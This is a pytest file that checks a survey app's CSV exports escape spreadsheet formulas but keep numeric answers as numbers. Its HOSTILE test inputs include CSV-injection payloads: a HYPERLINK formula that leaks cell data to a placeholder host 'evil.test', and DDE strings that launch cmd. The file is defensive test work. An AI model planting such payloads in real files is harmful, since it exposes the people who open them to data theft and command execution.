"""Survey CSV exports (long, wide, REDCap data; the download and `survey-export`) write
answers a spreadsheet cannot run as formulas, while numbers stay numbers."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from medmentor.csv_safety import spreadsheet_safe
from medmentor.programs.access import SYSTEM
from medmentor.surveys.exports import (
    export_long,
    export_wide,
    redcap_data,
    redcap_dictionary,
    redcap_dictionary_import,
)
from medmentor.surveys.models import Anonymity, Instrument, Item, ItemKind, Wave, WaveKind
from medmentor.surveys.services import response_record
from tests.conftest import sign_in

pytestmark = pytest.mark.usefixtures("fast_passwords")

HOSTILE = [
    '=HYPERLINK("http://evil.test/?q="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def hostile_survey(program):
    """An anonymous survey with a free-text item, a -3..3 agreement item (codes as a
    REDCap import gives them), a 0..40 number item and a choice with a hostile label."""
    instrument = Instrument.objects.create(
        program=program,
        title="Ward climate",
        consent_text="Taking part is voluntary.",
        anonymity=Anonymity.ANONYMOUS,
    )
    Item.objects.create(instrument=instrument, order=0, key="comment", text="Say", kind="text")
    Item.objects.create(
        instrument=instrument,
        order=1,
        key="agreement",
        text="I feel safe asking questions",
        kind=ItemKind.SINGLE,
        choices=[[str(code), f"Level {code}"] for code in range(-3, 4)],
    )
    Item.objects.create(
        instrument=instrument,
        order=2,
        key="hours",
        text="Hours of teaching a week",
        kind=ItemKind.NUMERIC,
        numeric_max=40,
    )
    Item.objects.create(
        instrument=instrument,
        order=3,
        key="source",
        text="=1+1 where did you hear of us?",
        kind=ItemKind.MULTIPLE,
        choices=[["1", "@colleague"], ["2", "Poster"]],
    )
    now = timezone.now()
    wave = Wave.objects.create(
        instrument=instrument,
        kind=WaveKind.PRE,
        opens_at=now - datetime.timedelta(days=1),
        closes_at=now + datetime.timedelta(days=10),
    )
    for number, text in enumerate(HOSTILE):
        response_record(
            wave=wave,
            answers={"comment": text, "agreement": "-3", "hours": str(number), "source": ["1"]},
        )
    return instrument


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a formula character and not a
    plain number."""
    return [cell for row in rows for cell in row if spreadsheet_safe(cell) != cell]


@pytest.mark.parametrize("export", [export_long, export_wide, redcap_data])
def test_hostile_answers_are_written_as_text_in_every_data_export(hostile_survey, export):
    rows = _cells(export(instrument=hostile_survey))
    assert _formula_cells(rows) == []
    cells = [cell for row in rows for cell in row]
    for text in HOSTILE:
        assert "'" + text in cells  # still there, word for word, after the apostrophe


@pytest.mark.parametrize("export", [export_long, export_wide, redcap_data])
def test_a_negative_code_and_a_numeric_answer_stay_numbers(hostile_survey, export):
    rows = _cells(export(instrument=hostile_survey))
    header, data = rows[0], rows[1:]
    if export is export_long:
        values = {(row[2], row[3]) for row in data}
        assert ("agreement", "-3") in values
        assert ("hours", "4") in values
        return
    agreement = [row[header.index("agreement")] for row in data]
    hours = sorted(int(row[header.index("hours")]) for row in data)
    assert agreement == ["-3"] * len(HOSTILE)
    assert [int(value) for value in agreement] == [-3] * len(HOSTILE)
    assert hours == list(range(len(HOSTILE)))


def test_hostile_choice_label_is_text_in_the_wide_export(hostile_survey):
    rows = _cells(export_wide(instrument=hostile_survey))
    labels = {row[rows[0].index("source_label")] for row in rows[1:]}
    assert labels == {"'@colleague"}


def test_redcap_dictionary_keeps_negative_choice_codes_and_neutralises_the_label(
    hostile_survey, program
):
    text = redcap_dictionary(instrument=hostile_survey)
    rows = {row[0]: row for row in _cells(text)}
    assert rows["agreement"][5].startswith("-3, Level -3 | -2, Level -2")
    assert rows["source"][4] == "'=1+1 where did you hear of us?"
    # REDCap (and our import) still read the dictionary's choices as they were.
    copy = redcap_dictionary_import(program=program, title="Copy", content=text.encode(), by=SYSTEM)
    assert copy.items.get(key="agreement").options()[0] == ("-3", "Level -3")


def test_the_download_and_the_console_write_the_same_safe_file(
    client, hostile_survey, program, researcher, tmp_path
):
    sign_in(client, researcher)
    response = client.get(
        reverse(
            "survey-export",
            kwargs={"slug": program.slug, "instrument_id": hostile_survey.pk, "kind": "long"},
        )
    )
    assert response.status_code == 200
    downloaded = response.content.decode("utf-8-sig")
    out = tmp_path / "long.csv"
    call_command("survey_export", program.slug, str(hostile_survey.pk), "long", str(out))
    written = out.read_text()
    for text in (downloaded, written):
        rows = _cells(text)
        assert _formula_cells(rows) == []
        assert any(cell == "'" + HOSTILE[0] for row in rows for cell in row)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+41 22 555 01 01", "'+41 22 555 01 01"),
        ("-", "'-"),
        ("@here", "'@here"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("-3", "-3"),
        ("+2", "+2"),
        ("-0.5", "-0.5"),
        ("-1e3", "-1e3"),
        ("-1+2", "'-1+2"),
        ("plain words", "plain words"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_safe_prefixes_formulas_and_keeps_numbers(value, written):
    assert spreadsheet_safe(value) == written
